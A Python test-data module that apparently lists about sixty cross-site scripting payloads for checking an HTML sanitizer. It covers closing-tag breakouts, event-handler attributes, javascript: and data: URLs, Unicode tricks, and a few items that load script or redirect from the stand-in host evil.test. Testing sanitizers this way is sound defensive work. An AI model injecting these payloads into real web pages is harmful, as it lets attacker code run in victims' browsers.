"""Sixty ways to bring a script into a page."""

RUN = "parent.run=1"
# The ways: tags, attributes, addresses, ends of what the text stands in, other parsers, other letters.
PAYLOADS = [
    *(
        f"{end}<script>{RUN}</script>"
        for end in (
            "",
            '">',
            "'>",
            "</title>",
            "</textarea>",
            "</script>",
            "</style>",
            "-->",
            "]]>",
            "</option></select>",
            "</h1>",
            "</svg>",
            "</template>",
            "</noscript>",
            "{% endblock %}",
            "{{ x }}",
        )
    ),
    *(
        f"<{tag} {event}={RUN}>"
        for tag, event in (
            ("img src=x", "onerror"),
            ("svg", "onload"),
            ("body", "onload"),
            ("input autofocus", "onfocus"),
            ("video src=x", "onerror"),
            ("audio src=x", "onerror"),
            ("details open", "ontoggle"),
            ("marquee", "onstart"),
            ("object data=x", "onerror"),
            ("iframe", "onload"),
            ("select autofocus", "onfocus"),
            ("a style=animation:x", "onanimationstart"),
            ("svg><animate attributeName=x dur=1s", "onbegin"),
            ("video><source", "onerror"),
            ("link rel=stylesheet href=x", "onerror"),
            ("style", "onload"),
            ("dialog open", "onclose"),
        )
    ),
    *(
        f"{quote} {event}={quote}{RUN}{quote} x={quote}"
        for quote in ('"', "'", "`")
        for event in (
            "onfocus",
            "onmouseover",
            "onpointerenter",
            "autofocus onfocus",
        )
    ),
    *(
        f"<{one}>"
        for one in (
            f'a href="javascript:{RUN}"',
            f'iframe src="javascript:{RUN}"',
            f'iframe srcdoc="<script>{RUN}</script>"',
            f'form action="javascript:{RUN}"',
            f'object data="data:text/html,<script>{RUN}</script>"',
            'base href="//evil.test/"',
            'meta http-equiv=refresh content="0;url=//evil.test/"',
            f'embed src="data:text/html,<script>{RUN}</script>"',
            'script src="//evil.test/x.js"/',
            f'math><mi xlink:href="javascript:{RUN}"',
            f'svg><use href="data:image/svg+xml,x#{RUN}"',
        )
    ),
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"\u202e<script>{RUN}</script>",
    f"<scr\0ipt>{RUN}</scr\0ipt>".replace("\0", "\u200b"),
    f"javascript:{RUN}",
]
